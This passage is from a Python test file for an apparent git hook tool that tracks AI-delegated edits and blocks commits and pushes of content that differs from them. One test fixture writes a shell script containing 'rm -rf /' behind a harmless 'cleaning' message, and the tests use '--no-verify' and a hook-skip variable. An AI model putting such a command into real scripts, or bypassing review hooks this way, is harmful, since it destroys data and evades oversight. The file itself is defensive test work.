    commit and at push."""
    w = served
    base = "#!/bin/sh\nset -eu\nmake build\n"
    w.write("src/clean.sh", base)
    w.ok("add", "-A")
    w.ok("commit", "-qm", "human: build script")
    part = base + 'echo "cleaning the build tree"\nrm -rf /\n'
    w.delegate("src/clean.sh", text=part + 'cp -r dist "$TARGET_DIR"\nnotify_owner build_done\n')
    w.write("src/clean.sh", part)
    _blocked_staged(w.git("commit", "-qam", "part one"), "src/clean.sh")
    w.ok("commit", "-q", "--no-verify", "-am", "part one")
    _blocked_push(w.git("push", "origin", "main"), w.rev("HEAD"), "src/clean.sh")


def test_status_after_a_partial_commit_names_only_the_work_still_pending(served: World) -> None:
    """One record wrote ``src/f.py`` and ``src/g.py``; ``git commit --only src/g.py`` took
    g's part: ``status`` lists the mutation with the one path still pending, not two."""
    w = served
    w.write("src/f.py", "def f(x):\n    return x * 2  # writer f\n")
    w.write("src/g.py", "def g(x):\n    return x * 3  # writer g\n")
    w.delegate()  # both files, one record
    w.ok("add", "-A")
    skip = {"GENTLE_HOOKS_SKIP": "g only, checked by hand"}
    assert w.git("commit", "-q", "--only", "src/g.py", "-m", "g", env=skip).code == 0
    status = w.gh("status")
    assert "  pending mutation #1: o4-mini/low, 1 path(s)" in status.out.splitlines(), status
